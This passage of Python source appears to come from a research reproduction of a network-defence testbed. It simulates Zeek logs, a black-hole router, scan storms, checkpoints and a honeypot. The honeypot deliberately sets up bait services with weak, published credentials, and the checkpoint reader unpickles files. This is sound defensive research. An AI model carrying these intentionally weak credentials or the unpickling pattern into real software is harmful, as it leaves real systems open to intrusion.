    lines = ["#fields\t" + "\t".join(CONN_COLUMNS)]
    lines.extend(record.to_tsv() for record in records)
    return "\n".join(lines) + "\n"


def parse_conn_log(text: str) -> list[ConnRecord]:
    """Parse a conn.log file produced by :func:`write_conn_log`."""
    records = []
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        records.append(ConnRecord.from_tsv(line))
    return records


def write_notice_log(records: Iterable[NoticeRecord]) -> str:
    """Render a whole notice.log file (header plus TSV body)."""
    lines = ["#fields\t" + "\t".join(NOTICE_COLUMNS)]
    lines.extend(record.to_tsv() for record in records)
    return "\n".join(lines) + "\n"


def parse_notice_log(text: str) -> list[NoticeRecord]:
    """Parse a notice.log file produced by :func:`write_notice_log`."""
    records = []
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        records.append(NoticeRecord.from_tsv(line))
    return records


__all__ = [
    "CONN_COLUMNS",
    "NOTICE_COLUMNS",
    "ConnRecord",
    "NoticeRecord",
    "ZeekMonitor",
    "write_conn_log",
    "parse_conn_log",
    "write_notice_log",
    "parse_notice_log",
]
