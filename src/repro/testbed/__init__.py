"""Testbed architecture: honeypot, services, VRT, BHR, isolation, pipeline.

Implements the ATTACKTAGGER testbed of §IV as a discrete-event
simulation: the address space and cluster topology, the honeypot entry
points with vulnerable services and published credential hints, the
Vulnerability Reproduction Tool, the black-hole router with its
programmable client, the isolation/egress policies, the traffic mirror,
and the end-to-end pipeline feeding detectors and the response path.
"""

from .addresses import (
    AddressAllocator,
    AddressBlock,
    PRODUCTION_NETWORK,
    SECONDARY_NETWORK,
    TESTBED_NETWORK,
    int_to_ip,
    ip_to_int,
    random_external_address,
)
from .bhr import BHRClient, BlackHoleRouter, BlockEntry, ScanRecord, generate_scan_storm
from .checkpoint import (
    CHECKPOINT_MAGIC,
    CHECKPOINT_VERSION,
    CheckpointError,
    CheckpointStore,
    read_checkpoint,
    write_checkpoint,
)
from .honeypot import DEFAULT_ENTRY_POINTS, CredentialHint, EntryPoint, Honeypot
from .isolation import (
    EgressAttempt,
    EgressPolicy,
    EgressVerdict,
    OverlayNetwork,
    VMInstance,
    VMLifecycleManager,
    VMState,
)
from .mirror import MirrorStats, TrafficMirror
from .pipeline import PipelineStats, TestbedPipeline
from .responder import (
    OperatorNotification,
    ResponseAction,
    ResponseOrchestrator,
    ResponsePolicy,
    ResponseRecord,
)
from .scheduler import EventHandle, Simulator
from .sharding import (
    BACKENDS,
    DetectorTemplate,
    PoolCloseResult,
    RESTART_POLICIES,
    RecoveryEvent,
    RecoveryLog,
    ReshardEvent,
    ReshardLog,
    ShardRecoveryError,
    ShardedDetectorPool,
    ShardWorkerError,
    shard_of,
)
from .stages import DetectionStage, PipelineStage, ResponseStage
from .services import (
    ELF_MAGIC_HEX,
    PostgresHoneypotService,
    QueryResult,
    SSHHoneypotService,
    ServiceMonitors,
    ServiceState,
    VulnerableService,
    WebApplicationService,
)
from .topology import ClusterTopology, Host, HostRole, NetworkSegment, build_default_topology
from .vrt import (
    CVE_CATALOGUE,
    ContainerSpec,
    DebianRelease,
    DEBIAN_RELEASES,
    PackageVersion,
    SnapshotRepository,
    VulnerabilityReproductionTool,
    default_package_history,
)

__all__ = [
    # addresses
    "AddressBlock",
    "AddressAllocator",
    "PRODUCTION_NETWORK",
    "SECONDARY_NETWORK",
    "TESTBED_NETWORK",
    "ip_to_int",
    "int_to_ip",
    "random_external_address",
    # topology
    "ClusterTopology",
    "Host",
    "HostRole",
    "NetworkSegment",
    "build_default_topology",
    # scheduler
    "Simulator",
    "EventHandle",
    # services
    "ServiceState",
    "ServiceMonitors",
    "QueryResult",
    "VulnerableService",
    "PostgresHoneypotService",
    "SSHHoneypotService",
    "WebApplicationService",
    "ELF_MAGIC_HEX",
    # honeypot
    "Honeypot",
    "EntryPoint",
    "CredentialHint",
    "DEFAULT_ENTRY_POINTS",
    # isolation
    "OverlayNetwork",
    "EgressPolicy",
    "EgressVerdict",
    "EgressAttempt",
    "VMLifecycleManager",
    "VMInstance",
    "VMState",
    # vrt
    "VulnerabilityReproductionTool",
    "SnapshotRepository",
    "ContainerSpec",
    "PackageVersion",
    "DebianRelease",
    "DEBIAN_RELEASES",
    "CVE_CATALOGUE",
    "default_package_history",
    # bhr
    "BlackHoleRouter",
    "BHRClient",
    "BlockEntry",
    "ScanRecord",
    "generate_scan_storm",
    # sharding / stages
    "BACKENDS",
    "RESTART_POLICIES",
    "DetectorTemplate",
    "PoolCloseResult",
    "RecoveryEvent",
    "RecoveryLog",
    "ReshardEvent",
    "ReshardLog",
    "ShardedDetectorPool",
    "ShardRecoveryError",
    "ShardWorkerError",
    "shard_of",
    "PipelineStage",
    "DetectionStage",
    "ResponseStage",
    # checkpoint
    "CHECKPOINT_MAGIC",
    "CHECKPOINT_VERSION",
    "CheckpointError",
    "CheckpointStore",
    "read_checkpoint",
    "write_checkpoint",
    # mirror / responder / pipeline
    "TrafficMirror",
    "MirrorStats",
    "ResponseOrchestrator",
    "ResponsePolicy",
    "ResponseAction",
    "ResponseRecord",
    "OperatorNotification",
    "TestbedPipeline",
    "PipelineStats",
]
