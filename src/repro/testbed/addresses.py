"""IPv4 address-space model for the testbed.

NCSA's production network occupies a class B (/16) range --
141.142.0.0/16, 65,536 host addresses -- and the testbed is allocated a
dedicated /24 inside it with sixteen honeypot entry points.  This
module provides a tiny, dependency-free address-space model: blocks,
allocation of sub-blocks and individual hosts, membership tests, and
deterministic pseudo-random external address generation for attack
emulation.
"""

from __future__ import annotations

import dataclasses
from typing import Iterator, Optional

import numpy as np


def ip_to_int(address: str) -> int:
    """Convert dotted-quad notation to a 32-bit integer."""
    parts = address.split(".")
    if len(parts) != 4:
        raise ValueError(f"malformed IPv4 address: {address!r}")
    value = 0
    for part in parts:
        octet = int(part)
        if not 0 <= octet <= 255:
            raise ValueError(f"malformed IPv4 address: {address!r}")
        value = (value << 8) | octet
    return value


def int_to_ip(value: int) -> str:
    """Convert a 32-bit integer to dotted-quad notation."""
    if not 0 <= value <= 0xFFFFFFFF:
        raise ValueError(f"IPv4 integer out of range: {value}")
    return ".".join(str((value >> shift) & 0xFF) for shift in (24, 16, 8, 0))


@dataclasses.dataclass(frozen=True)
class AddressBlock:
    """A CIDR block of IPv4 addresses."""

    network: str
    prefix_length: int

    def __post_init__(self) -> None:
        if not 0 <= self.prefix_length <= 32:
            raise ValueError(f"invalid prefix length: {self.prefix_length}")
        base = ip_to_int(self.network)
        if base & (self.size - 1):
            raise ValueError(
                f"{self.network}/{self.prefix_length} is not aligned to its prefix"
            )

    @classmethod
    def parse(cls, cidr: str) -> "AddressBlock":
        """Parse ``a.b.c.d/len`` notation."""
        network, _, length = cidr.partition("/")
        if not length:
            raise ValueError(f"missing prefix length in CIDR: {cidr!r}")
        return cls(network=network, prefix_length=int(length))

    @property
    def size(self) -> int:
        """Number of addresses in the block."""
        return 1 << (32 - self.prefix_length)

    @property
    def base_int(self) -> int:
        """Integer value of the network address."""
        return ip_to_int(self.network)

    @property
    def cidr(self) -> str:
        """Canonical CIDR notation."""
        return f"{self.network}/{self.prefix_length}"

    def __contains__(self, address: str) -> bool:
        value = ip_to_int(address)
        return self.base_int <= value < self.base_int + self.size

    def address_at(self, offset: int) -> str:
        """Address at a given offset into the block."""
        if not 0 <= offset < self.size:
            raise IndexError(f"offset {offset} outside block {self.cidr}")
        return int_to_ip(self.base_int + offset)

    def iter_addresses(self, *, limit: Optional[int] = None) -> Iterator[str]:
        """Iterate over addresses (optionally only the first ``limit``)."""
        count = self.size if limit is None else min(limit, self.size)
        for offset in range(count):
            yield int_to_ip(self.base_int + offset)

    def subblock(self, offset: int, prefix_length: int) -> "AddressBlock":
        """Carve a sub-block starting at ``offset`` with the given prefix."""
        if prefix_length < self.prefix_length:
            raise ValueError("sub-block prefix must be at least as long as the parent's")
        sub = AddressBlock(network=int_to_ip(self.base_int + offset), prefix_length=prefix_length)
        if sub.base_int + sub.size > self.base_int + self.size:
            raise ValueError("sub-block extends past the parent block")
        return sub


#: NCSA's production /16 (the space mass scanners sweep in Fig. 1).
PRODUCTION_NETWORK = AddressBlock("141.142.0.0", 16)

#: Secondary production range seen in the paper's Graphviz excerpt.
SECONDARY_NETWORK = AddressBlock("143.219.0.0", 16)

#: The dedicated /24 testbed segment holding the honeypot entry points.
TESTBED_NETWORK = AddressBlock("141.142.230.0", 24)


class AddressAllocator:
    """Sequentially allocates host addresses out of a block."""

    def __init__(self, block: AddressBlock, *, reserve_network_and_broadcast: bool = True) -> None:
        self.block = block
        self._next_offset = 1 if reserve_network_and_broadcast else 0
        self._reserved_tail = 1 if reserve_network_and_broadcast else 0
        self._allocated: dict[str, str] = {}

    @property
    def allocated(self) -> dict[str, str]:
        """Mapping of label -> allocated address."""
        return dict(self._allocated)

    @property
    def remaining(self) -> int:
        """Number of addresses still available."""
        return self.block.size - self._reserved_tail - self._next_offset

    def allocate(self, label: str) -> str:
        """Allocate the next free address for ``label``."""
        if label in self._allocated:
            return self._allocated[label]
        if self.remaining <= 0:
            raise RuntimeError(f"address block {self.block.cidr} exhausted")
        address = self.block.address_at(self._next_offset)
        self._next_offset += 1
        self._allocated[label] = address
        return address

    def lookup(self, label: str) -> str:
        """Previously allocated address for ``label`` (KeyError if absent)."""
        return self._allocated[label]


def random_external_address(rng: np.random.Generator, *, exclude: tuple[AddressBlock, ...] = ()) -> str:
    """A random public-looking address outside the given blocks."""
    exclude = exclude or (PRODUCTION_NETWORK, SECONDARY_NETWORK)
    while True:
        first = int(rng.integers(1, 224))
        if first in (10, 127, 172, 192):
            continue
        address = f"{first}.{rng.integers(0, 256)}.{rng.integers(0, 256)}.{rng.integers(1, 255)}"
        if not any(address in block for block in exclude):
            return address


__all__ = [
    "ip_to_int",
    "int_to_ip",
    "AddressBlock",
    "AddressAllocator",
    "PRODUCTION_NETWORK",
    "SECONDARY_NETWORK",
    "TESTBED_NETWORK",
    "random_external_address",
]
