"""Black Hole Router (BHR) model and programmable client API.

NCSA's border defence includes a black-hole (null-route) router: IPs
null-routed by it can no longer reach the production network, and the
router records the mass scanning it absorbs (26.85 million scans in a
single hour on 2024-08-01, the data source of Fig. 1).  The testbed
drives the router through a programmable API (the ``bhr-client``
project) for real-time response: mass scanners get short automatic
blocks, confirmed attackers get long blocks raised by the response
path.

The reproduction models the routing table with expiry, the scan
recorder, and a client API with the same verbs as the real client
(``block``, ``unblock``, ``query``, ``list``) plus per-caller audit.
"""

from __future__ import annotations

import dataclasses
from collections import Counter, defaultdict
from typing import Iterable, Optional, Sequence

import numpy as np

from .addresses import AddressBlock, PRODUCTION_NETWORK, random_external_address


@dataclasses.dataclass(frozen=True)
class ScanRecord:
    """One scan packet recorded by the black-hole router."""

    timestamp: float
    source_ip: str
    destination_ip: str
    destination_port: int


@dataclasses.dataclass
class BlockEntry:
    """One null-route entry."""

    source_ip: str
    reason: str
    created_at: float
    duration_seconds: Optional[float]
    created_by: str = "bhr"

    def expires_at(self) -> Optional[float]:
        """Absolute expiry time, or ``None`` for permanent blocks."""
        if self.duration_seconds is None:
            return None
        return self.created_at + self.duration_seconds

    def is_active(self, now: float) -> bool:
        """Whether the block is still in force at ``now``."""
        expiry = self.expires_at()
        return expiry is None or now < expiry


class BlackHoleRouter:
    """Null-route table plus scan recorder."""

    def __init__(self, protected: AddressBlock = PRODUCTION_NETWORK) -> None:
        self.protected = protected
        self._blocks: dict[str, BlockEntry] = {}
        self._history: list[BlockEntry] = []
        self._scans: list[ScanRecord] = []
        self.scan_counter: Counter[str] = Counter()
        # threshold -> sources at/above it with scans not yet drained
        # (the incremental feed behind pipeline.block_top_scanners).
        self._scan_watches: dict[int, set[str]] = {}

    # -- routing ----------------------------------------------------------
    def block(
        self,
        source_ip: str,
        *,
        reason: str,
        now: float,
        duration_seconds: Optional[float] = None,
        created_by: str = "bhr",
    ) -> BlockEntry:
        """Install (or refresh) a null route for ``source_ip``."""
        entry = BlockEntry(
            source_ip=source_ip,
            reason=reason,
            created_at=now,
            duration_seconds=duration_seconds,
            created_by=created_by,
        )
        self._blocks[source_ip] = entry
        self._history.append(entry)
        return entry

    def unblock(self, source_ip: str) -> bool:
        """Remove a null route; returns whether one existed."""
        return self._blocks.pop(source_ip, None) is not None

    def is_blocked(self, source_ip: str, now: float) -> bool:
        """Whether traffic from ``source_ip`` is currently dropped."""
        entry = self._blocks.get(source_ip)
        if entry is None:
            return False
        if not entry.is_active(now):
            del self._blocks[source_ip]
            return False
        return True

    def active_blocks(self, now: float) -> list[BlockEntry]:
        """All blocks still in force at ``now`` (expired ones are pruned)."""
        expired = [ip for ip, entry in self._blocks.items() if not entry.is_active(now)]
        for ip in expired:
            del self._blocks[ip]
        return list(self._blocks.values())

    @property
    def history(self) -> list[BlockEntry]:
        """Every block ever installed (including expired/removed ones)."""
        return list(self._history)

    # -- scan recording ---------------------------------------------------------
    def record_scan(self, record: ScanRecord) -> None:
        """Record one scan packet aimed at the protected space."""
        self._scans.append(record)
        count = self.scan_counter[record.source_ip] + 1
        self.scan_counter[record.source_ip] = count
        for threshold, pending in self._scan_watches.items():
            if count >= threshold:
                pending.add(record.source_ip)

    def record_scans(self, records: Iterable[ScanRecord]) -> None:
        """Record many scan packets."""
        for record in records:
            self.record_scan(record)

    @property
    def scans(self) -> list[ScanRecord]:
        """All recorded scans."""
        return list(self._scans)

    def scan_count(self) -> int:
        """Total number of recorded scans."""
        return len(self._scans)

    def top_scanners(self, count: int = 10) -> list[tuple[str, int]]:
        """The ``count`` most active scanning sources."""
        return self.scan_counter.most_common(count)

    # -- incremental threshold watches ------------------------------------------
    def watch_scan_threshold(self, min_scans: int) -> None:
        """Start (or keep) an incremental crossing watch for a threshold.

        Registration walks the existing counter once to seed the watch
        with sources already at/above ``min_scans``; from then on
        :meth:`record_scan` maintains it in O(1) per scan, so consumers
        never rescan the full (potentially millions-strong) counter.
        """
        if min_scans not in self._scan_watches:
            self._scan_watches[min_scans] = {
                source
                for source, count in self.scan_counter.items()
                if count >= min_scans
            }

    def drain_crossed_scanners(self, min_scans: int) -> set[str]:
        """Sources at/above ``min_scans`` with scans since the last drain.

        A drained source re-enters the set on its next recorded scan
        (its count is already over the threshold), so sources that keep
        scanning after a block expires are re-surfaced, while sources
        that went quiet are not rescanned.  A consumer that drains a
        source but cannot act on it yet (e.g. it is still blocked) must
        hand it back via :meth:`requeue_crossed_scanners` so the
        crossing signal is not lost.
        """
        self.watch_scan_threshold(min_scans)
        crossed = self._scan_watches[min_scans]
        self._scan_watches[min_scans] = set()
        return crossed

    def requeue_crossed_scanners(self, min_scans: int, sources: Iterable[str]) -> None:
        """Return drained-but-unhandled sources to a threshold watch."""
        self.watch_scan_threshold(min_scans)
        self._scan_watches[min_scans].update(sources)

    def scans_from(self, source_ip: str, *, limit: Optional[int] = None) -> list[ScanRecord]:
        """Scans recorded from one source (optionally the first ``limit``)."""
        out = [s for s in self._scans if s.source_ip == source_ip]
        return out if limit is None else out[:limit]


class BHRClient:
    """Programmable client API used by the response path (ncsa/bhr-client)."""

    def __init__(self, router: BlackHoleRouter, *, caller: str = "attacktagger") -> None:
        self.router = router
        self.caller = caller
        self.audit_log: list[dict] = []

    def _audit(self, action: str, source_ip: str, **details) -> None:
        self.audit_log.append(
            {"action": action, "source_ip": source_ip, "caller": self.caller, **details}
        )

    def block(
        self,
        source_ip: str,
        *,
        reason: str,
        now: float,
        duration_seconds: Optional[float] = 86_400.0,
    ) -> BlockEntry:
        """Null-route an address (default 24-hour block)."""
        entry = self.router.block(
            source_ip,
            reason=reason,
            now=now,
            duration_seconds=duration_seconds,
            created_by=self.caller,
        )
        self._audit("block", source_ip, reason=reason, duration_seconds=duration_seconds)
        return entry

    def unblock(self, source_ip: str) -> bool:
        """Remove a null route."""
        removed = self.router.unblock(source_ip)
        self._audit("unblock", source_ip, removed=removed)
        return removed

    def query(self, source_ip: str, *, now: float) -> bool:
        """Whether an address is currently blocked."""
        blocked = self.router.is_blocked(source_ip, now)
        self._audit("query", source_ip, blocked=blocked)
        return blocked

    def list_blocks(self, *, now: float) -> list[BlockEntry]:
        """All active blocks."""
        entries = self.router.active_blocks(now)
        self._audit("list", "*", count=len(entries))
        return entries


def generate_scan_storm(
    router: BlackHoleRouter,
    *,
    total_scans: int,
    dominant_scanner: str,
    dominant_fraction: float = 0.8,
    other_scanners: int = 200,
    start_time: float = 0.0,
    duration_seconds: float = 3600.0,
    seed: int = 23,
    targets: AddressBlock = PRODUCTION_NETWORK,
) -> dict[str, int]:
    """Populate the router with a mass-scanning hour (the Fig. 1 data source).

    One dominant scanner (the paper's ``103.102.xxx.yyy`` cloud host)
    produces ``dominant_fraction`` of the scans, sweeping the protected
    /16; the remainder comes from a long tail of smaller scanners.
    Returns per-source scan counts.  ``total_scans`` is configurable so
    tests can use thousands while the Fig. 1 benchmark models the full
    26.85 M statistically (recording a sampled subset plus exact
    counters).
    """
    rng = np.random.default_rng(seed)
    counts: dict[str, int] = defaultdict(int)
    dominant = int(total_scans * dominant_fraction)
    tail = total_scans - dominant
    tail_sources = [random_external_address(rng) for _ in range(other_scanners)]
    # Dominant scanner: sequential sweep of the /16.
    times = np.sort(rng.uniform(start_time, start_time + duration_seconds, size=dominant))
    for index, ts in enumerate(times):
        destination = targets.address_at(index % targets.size)
        router.record_scan(
            ScanRecord(
                timestamp=float(ts),
                source_ip=dominant_scanner,
                destination_ip=destination,
                destination_port=int(rng.choice([22, 80, 443, 3389, 5432, 8080])),
            )
        )
        counts[dominant_scanner] += 1
    # Long tail of smaller scanners.
    if tail > 0 and tail_sources:
        sources = rng.choice(tail_sources, size=tail)
        times = np.sort(rng.uniform(start_time, start_time + duration_seconds, size=tail))
        for source, ts in zip(sources, times):
            destination = targets.address_at(int(rng.integers(0, targets.size)))
            router.record_scan(
                ScanRecord(
                    timestamp=float(ts),
                    source_ip=str(source),
                    destination_ip=destination,
                    destination_port=int(rng.choice([22, 23, 80, 443, 445, 5432])),
                )
            )
            counts[str(source)] += 1
    return dict(counts)


__all__ = [
    "ScanRecord",
    "BlockEntry",
    "BlackHoleRouter",
    "BHRClient",
    "generate_scan_storm",
]
