"""Durable pipeline checkpoints: atomic, versioned snapshot files.

The ROADMAP's north-star is an always-on detection service; a service
that loses every per-entity decoder window on restart is not one.  This
module provides the persistence layer:

* :func:`write_checkpoint` / :func:`read_checkpoint` -- one snapshot
  payload per file, framed as ``magic || version || pickle`` and
  written *atomically*: the bytes go to a temp file in the destination
  directory, are fsynced, and are renamed over the target
  (``os.replace``), followed by a directory fsync, so a crash mid-write
  can never leave a torn checkpoint behind -- the file either is the
  complete new snapshot or does not exist.
* :class:`CheckpointStore` -- a directory of numbered checkpoints with
  monotonically increasing sequence numbers, optional retention
  (``keep_last``), and ``save``/``load_latest`` convenience wrappers
  around :meth:`repro.testbed.pipeline.TestbedPipeline.checkpoint` /
  :meth:`~repro.testbed.pipeline.TestbedPipeline.restore`.

The payload itself is produced by the pipeline (see
``TestbedPipeline._checkpoint_payload``); this module only frames and
persists it.  The format is versioned: :data:`CHECKPOINT_VERSION` bumps
whenever the payload schema changes, and a mismatched version fails
loudly with :class:`CheckpointError` instead of unpickling garbage.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
from pathlib import Path
from typing import List, Optional

#: File magic: identifies a repro testbed checkpoint ("RePRo ChecKPoinT").
CHECKPOINT_MAGIC = b"RPRCKPT1"

#: Payload schema version (little-endian u32 after the magic).
CHECKPOINT_VERSION = 1

_HEADER = struct.Struct("<I")


class CheckpointError(RuntimeError):
    """A checkpoint file could not be written, read, or validated."""


class _CanonicalPickler(pickle._Pickler):
    """Pickler whose bytes are a pure function of the payload *values*.

    The stock pickler memoises by object identity, so two payloads with
    equal values serialise differently depending on which equal strings
    happen to be the same object -- a live pipeline shares e.g. the
    detector-name string between its config and its detection log,
    while a restored one holds distinct (equal) copies.  Checkpoint
    byte-identity (checkpoint -> restore -> checkpoint) requires the
    bytes not to depend on such identity accidents, so equal ``str`` /
    ``bytes`` atoms are mapped to one representative before
    memoisation: sharing becomes by value, deterministically.  (The
    pure-Python pickler is used because the C pickler's memoisation is
    not overridable; checkpoint I/O is not on the per-batch hot path.)
    """

    def __init__(self, file, protocol: int) -> None:
        super().__init__(file, protocol)
        self._canonical: dict = {}

    def save(self, obj, save_persistent_id: bool = True):
        if type(obj) in (str, bytes):
            obj = self._canonical.setdefault(obj, obj)
        return super().save(obj, save_persistent_id)


def _canonical_dumps(payload: object) -> bytes:
    buffer = io.BytesIO()
    _CanonicalPickler(buffer, pickle.HIGHEST_PROTOCOL).dump(payload)
    return buffer.getvalue()


def _fsync_directory(directory: Path) -> None:
    """Flush a directory entry so a rename survives power loss (POSIX)."""
    try:
        fd = os.open(directory, os.O_RDONLY)
    except OSError:  # pragma: no cover - e.g. non-POSIX directory handle
        return
    try:
        os.fsync(fd)
    except OSError:  # pragma: no cover - fsync on dir unsupported
        pass
    finally:
        os.close(fd)


def write_checkpoint(path: os.PathLike, payload: object) -> int:
    """Atomically persist one checkpoint payload to ``path``.

    Serialises ``payload``, writes ``magic || version || body`` to a
    temp file next to the destination, fsyncs, renames over ``path``,
    and fsyncs the directory.  Returns the file size in bytes.  Raises
    :class:`CheckpointError` if the payload cannot be pickled; any
    partially written temp file is removed on failure.
    """
    path = Path(path)
    try:
        body = _canonical_dumps(payload)
    except Exception as exc:
        raise CheckpointError(f"checkpoint payload is not picklable: {exc!r}") from exc
    blob = CHECKPOINT_MAGIC + _HEADER.pack(CHECKPOINT_VERSION) + body
    tmp = path.with_name(f"{path.name}.tmp.{os.getpid()}")
    try:
        with open(tmp, "wb") as handle:
            handle.write(blob)
            handle.flush()
            os.fsync(handle.fileno())
        os.replace(tmp, path)
    except BaseException:
        tmp.unlink(missing_ok=True)
        raise
    _fsync_directory(path.parent)
    return len(blob)


def read_checkpoint(path: os.PathLike) -> object:
    """Load and validate one checkpoint file; return its payload.

    Raises :class:`CheckpointError` on a missing file, bad magic,
    unsupported version, or a corrupt/truncated body.
    """
    path = Path(path)
    try:
        blob = path.read_bytes()
    except OSError as exc:
        raise CheckpointError(f"cannot read checkpoint {path}: {exc}") from exc
    if not blob.startswith(CHECKPOINT_MAGIC):
        raise CheckpointError(
            f"{path} is not a checkpoint file (bad magic "
            f"{blob[: len(CHECKPOINT_MAGIC)]!r})"
        )
    offset = len(CHECKPOINT_MAGIC)
    if len(blob) < offset + _HEADER.size:
        raise CheckpointError(f"{path} is truncated (no version header)")
    (version,) = _HEADER.unpack_from(blob, offset)
    if version != CHECKPOINT_VERSION:
        raise CheckpointError(
            f"{path} has checkpoint version {version}; this build reads "
            f"version {CHECKPOINT_VERSION}"
        )
    try:
        return pickle.loads(blob[offset + _HEADER.size :])
    except Exception as exc:
        raise CheckpointError(f"{path} body is corrupt: {exc!r}") from exc


class CheckpointStore:
    """A directory of numbered pipeline checkpoints.

    Files are named ``checkpoint-{seq:08d}.ckpt`` with strictly
    increasing sequence numbers; :meth:`save` writes the next sequence
    atomically and (with ``keep_last``) prunes the oldest files beyond
    the retention bound *after* the new checkpoint is durable, so the
    store never transitions through a state with fewer checkpoints
    than it had before.
    """

    _PATTERN = "checkpoint-{seq:08d}.ckpt"

    def __init__(self, directory: os.PathLike, *, keep_last: Optional[int] = None) -> None:
        if keep_last is not None and keep_last < 1:
            raise ValueError("keep_last must be >= 1 (or None for unbounded)")
        self.directory = Path(directory)
        self.keep_last = keep_last
        self.directory.mkdir(parents=True, exist_ok=True)

    # -- enumeration -----------------------------------------------------
    def sequences(self) -> List[int]:
        """Sorted sequence numbers of the checkpoints on disk."""
        found = []
        for entry in self.directory.glob("checkpoint-*.ckpt"):
            stem = entry.name[len("checkpoint-") : -len(".ckpt")]
            if stem.isdigit():
                found.append(int(stem))
        return sorted(found)

    def path_for(self, sequence: int) -> Path:
        """The file path a sequence number maps to."""
        return self.directory / self._PATTERN.format(seq=sequence)

    def latest(self) -> Optional[Path]:
        """Path of the newest checkpoint, or ``None`` if the store is empty."""
        sequences = self.sequences()
        if not sequences:
            return None
        return self.path_for(sequences[-1])

    # -- save / load -----------------------------------------------------
    def save(self, pipeline) -> Path:
        """Checkpoint ``pipeline`` as the next sequence; prune retention."""
        sequences = self.sequences()
        next_seq = (sequences[-1] + 1) if sequences else 1
        path = self.path_for(next_seq)
        pipeline.checkpoint(path)
        if self.keep_last is not None:
            for stale in sequences[: max(0, len(sequences) + 1 - self.keep_last)]:
                self.path_for(stale).unlink(missing_ok=True)
        return path

    def load_latest(self, pipeline) -> Path:
        """Restore ``pipeline`` from the newest checkpoint in the store."""
        path = self.latest()
        if path is None:
            raise CheckpointError(f"no checkpoints in {self.directory}")
        pipeline.restore(path)
        return path


__all__ = [
    "CHECKPOINT_MAGIC",
    "CHECKPOINT_VERSION",
    "CheckpointError",
    "CheckpointStore",
    "read_checkpoint",
    "write_checkpoint",
]
