"""The honeypot: entry points, advertised credential hints, bait services.

§IV.B-C describe the honeypot deployment: a dedicated /24 inside NCSA's
address space with **sixteen entry points**, each a small VM forwarding
incoming traffic to an isolated container running the vulnerable or
semi-open database; access credentials and database URLs are
"accidentally" published through channels an attacker would plausibly
find (social media, git), and each hint carries a *unique* credential
so individual attackers can be traced by which key they use.

:class:`Honeypot` wires those pieces together on top of the isolation
and service models: it owns the entry points, the credential hints, the
per-entry-point PostgreSQL/SSH service instances, and the VM lifecycle
manager, and it exposes the attacker-facing operations the attack
emulator drives (probe, connect, authenticate).
"""

from __future__ import annotations

import dataclasses
from typing import Optional

from .addresses import AddressAllocator, TESTBED_NETWORK, AddressBlock
from .isolation import EgressPolicy, OverlayNetwork, VMLifecycleManager
from .services import (
    PostgresHoneypotService,
    SSHHoneypotService,
    ServiceMonitors,
)
from ..telemetry.zeek import ZeekMonitor

#: Number of honeypot entry points on the dedicated /24 (per the paper).
DEFAULT_ENTRY_POINTS = 16


@dataclasses.dataclass(frozen=True)
class CredentialHint:
    """One advertised credential hint, published through one channel."""

    username: str
    password: str
    database_url: str
    channel: str
    entry_point: str

    @property
    def key(self) -> str:
        """The unique tracing key: which hint an attacker used."""
        return f"{self.channel}:{self.username}:{self.password}"


@dataclasses.dataclass
class EntryPoint:
    """One honeypot entry point VM and its backing container services."""

    name: str
    address: str
    container: str
    overlay_address: str
    postgres: PostgresHoneypotService
    ssh: SSHHoneypotService
    connections_seen: int = 0


class Honeypot:
    """The full honeypot deployment on the testbed /24."""

    #: Channels through which hints are "accidentally" published.
    HINT_CHANNELS = ("git", "social_media", "pastebin", "mailing_list")

    def __init__(
        self,
        *,
        num_entry_points: int = DEFAULT_ENTRY_POINTS,
        block: AddressBlock = TESTBED_NETWORK,
        zeek: Optional[ZeekMonitor] = None,
        lifecycle: Optional[VMLifecycleManager] = None,
    ) -> None:
        if num_entry_points < 1:
            raise ValueError("need at least one entry point")
        self.block = block
        self.zeek = zeek or ZeekMonitor("zeek-testbed")
        self.overlay = OverlayNetwork()
        self.egress = EgressPolicy(self.overlay)
        self.lifecycle = lifecycle or VMLifecycleManager(max_instances=max(16, num_entry_points))
        self._allocator = AddressAllocator(block)
        self.entry_points: dict[str, EntryPoint] = {}
        self.hints: list[CredentialHint] = []
        self._build_entry_points(num_entry_points)
        self._publish_hints()

    # ------------------------------------------------------------------
    def _build_entry_points(self, count: int) -> None:
        self.lifecycle.ensure_capacity(0.0, desired=count)
        for index in range(count):
            name = f"entry{index:02d}"
            address = self._allocator.allocate(name)
            container = f"container-{name}"
            overlay_address = self.overlay.join(container)
            monitors = ServiceMonitors.for_host(container, zeek=self.zeek)
            postgres = PostgresHoneypotService(
                container,
                address,
                monitors,
                advertised_credentials=("postgres", f"postgres-{index:02d}"),
            )
            ssh = SSHHoneypotService(
                container,
                address,
                monitors,
                weak_accounts=(("admin", f"admin-{index:02d}"),),
            )
            self.entry_points[name] = EntryPoint(
                name=name,
                address=address,
                container=container,
                overlay_address=overlay_address,
                postgres=postgres,
                ssh=ssh,
            )

    def _publish_hints(self) -> None:
        for index, entry in enumerate(self.entry_points.values()):
            channel = self.HINT_CHANNELS[index % len(self.HINT_CHANNELS)]
            user, password = entry.postgres.advertised_credentials
            self.hints.append(
                CredentialHint(
                    username=user,
                    password=password,
                    database_url=f"postgresql://{entry.address}:5432/research",
                    channel=channel,
                    entry_point=entry.name,
                )
            )

    # ------------------------------------------------------------------
    # Lookup helpers
    # ------------------------------------------------------------------
    def entry_point(self, name: str) -> EntryPoint:
        """Entry point by name."""
        return self.entry_points[name]

    def entry_point_by_address(self, address: str) -> Optional[EntryPoint]:
        """Entry point listening on ``address``, if any."""
        for entry in self.entry_points.values():
            if entry.address == address:
                return entry
        return None

    def addresses(self) -> list[str]:
        """Addresses of all entry points."""
        return [entry.address for entry in self.entry_points.values()]

    def hint_for_entry(self, name: str) -> CredentialHint:
        """The published hint that points at a given entry point."""
        for hint in self.hints:
            if hint.entry_point == name:
                return hint
        raise KeyError(name)

    def trace_attacker(self, username: str, password: str) -> Optional[CredentialHint]:
        """Which published hint a set of credentials came from (attribution)."""
        for hint in self.hints:
            if hint.username == username and hint.password == password:
                return hint
        return None

    # ------------------------------------------------------------------
    # Attacker-facing operations
    # ------------------------------------------------------------------
    def probe(self, ts: float, source_ip: str, address: str, port: int = 5432) -> bool:
        """An external host probes an entry-point port; returns whether it exists."""
        entry = self.entry_point_by_address(address)
        if entry is None:
            return False
        entry.connections_seen += 1
        if port == 5432:
            entry.postgres.record_probe(ts, source_ip)
        else:
            entry.ssh.record_probe(ts, source_ip)
        return True

    def connect_postgres(
        self, ts: float, source_ip: str, address: str, username: str, password: str
    ) -> Optional[PostgresHoneypotService]:
        """Authenticate to the PostgreSQL bait; returns the service on success."""
        entry = self.entry_point_by_address(address)
